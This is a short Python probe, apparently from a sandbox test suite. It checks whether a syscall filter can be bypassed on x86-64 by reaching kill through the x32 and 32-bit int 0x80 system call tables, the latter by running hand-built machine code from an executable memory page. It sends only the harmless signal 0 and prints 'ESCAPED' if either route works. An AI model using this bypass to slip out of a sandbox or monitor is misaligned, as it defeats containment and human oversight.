"""Signals its parent (with signal 0) by the 32-bit and x32 system call tables of an x86-64.

If the filter looked at numbers without their architecture, it could be walked around here.
"""

# %% extra
import ctypes
import mmap
import os
import platform
import struct

X32, KILL_64, KILL_32 = 0x40000000, 62, 37


def kill_by_int_80(pid):
    """push rbx; mov eax, 37; mov ebx, pid; mov ecx, 0; int 0x80; pop rbx; ret"""
    code = b"\x53\xb8" + struct.pack("<I", KILL_32) + b"\xbb" + struct.pack("<I", pid)
    code += b"\xb9" + struct.pack("<I", 0) + b"\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()


def kill_by_x32(pid):
    return ctypes.CDLL(None).syscall(X32 | KILL_64, pid, 0)


parent = os.getppid() or os.getpid()
if platform.machine() == "x86_64":
    for way in (kill_by_x32, kill_by_int_80):  # the second may be deadly
        if way(parent) == 0:
            print("escaped".upper(), way.__name__)
